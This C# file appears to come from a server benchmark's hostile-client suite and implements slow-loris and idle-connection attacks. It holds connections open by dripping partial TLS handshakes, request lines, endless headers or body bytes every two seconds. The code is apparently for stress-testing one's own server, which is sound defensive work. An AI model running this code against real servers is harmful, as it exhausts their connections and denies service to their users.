// SPDX-License-Identifier: Apache-2.0
using System.Net.Security;
using System.Text;

namespace Sealock.Bench.Hostile.Attacks;

/// <summary>Where slow clients stop, or go on a byte at a time.</summary>
internal enum Stage
{
    /// <summary>In the ClientHello.</summary>
    Handshake,

    /// <summary>In the request line.</summary>
    RequestLine,

    /// <summary>In headers without an end.</summary>
    Headers,

    /// <summary>In a body.</summary>
    Body,

    /// <summary>After a request that was answered.</summary>
    Idle,
}

/// <summary>Many connections that hardly do anything, for as long as they are let: slow-loris, and idle ones.</summary>
internal sealed class Held(string name, string title, Stage stage, Strength strength)
    : Attack(name, title, "connections", strength)
{
    private static readonly TimeSpan BetweenDrips = TimeSpan.FromSeconds(2);

    // A record of 512 bytes that holds a ClientHello: what is missing of it comes slowly.
    private static readonly byte[] HalfHello = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

    public override double OpenedPerSecond => Strength.PerSecond;

    protected override async Task AttackAsync(Victim victim, int number, Pacer pacer, Tally tally, CancellationToken cancellationToken)
    {
        await using Stream stream = stage == Stage.Handshake
            ? new System.Net.Sockets.NetworkStream(await victim.ConnectAsync(cancellationToken), ownsSocket: true)
            : await victim.ConnectTlsAsync(SslApplicationProtocol.Http11, cancellationToken);
        tally.Connected();
        tally.Did(1);
        await stream.WriteAsync(First(victim), cancellationToken);
        // The server's answer matters to nobody; that it closes does.
        var closed = ReadToEndAsync(stream, cancellationToken);
        for (var drip = 0; !closed.IsCompleted; drip++)
        {
            var pause = stage == Stage.Idle ? Timeout.InfiniteTimeSpan : BetweenDrips;
            await Task.WhenAny(closed, Task.Delay(pause, cancellationToken));
            cancellationToken.ThrowIfCancellationRequested();
            if (!closed.IsCompleted)
                await stream.WriteAsync(Drip(drip), cancellationToken);
        }

        await closed;
    }

    private byte[] First(Victim victim) => stage switch
    {
        Stage.Handshake => HalfHello,
        Stage.RequestLine => "GET /"u8.ToArray(),
        Stage.Headers => Encoding.ASCII.GetBytes($"GET {victim.Path} HTTP/1.1\r\nHost: localhost\r\n"),
        Stage.Body => Encoding.ASCII.GetBytes(
            $"POST {victim.Path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {victim.Token}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{{"),
        _ => "GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n"u8.ToArray(),
    };

    private byte[] Drip(int number) => stage switch
    {
        Stage.Handshake => [0],
        Stage.Headers => Encoding.ASCII.GetBytes($"X-{number}: x\r\n"),
        _ => "x"u8.ToArray(),
    };

    private static async Task ReadToEndAsync(Stream stream, CancellationToken cancellationToken)
    {
        var buffer = new byte[512];
        try
        {
            while (await stream.ReadAsync(buffer, cancellationToken) > 0)
            {
            }
        }
        catch (Exception end) when (end is IOException or ObjectDisposedException or OperationCanceledException)
        {
            // Closed, one way or the other.
        }
    }
}
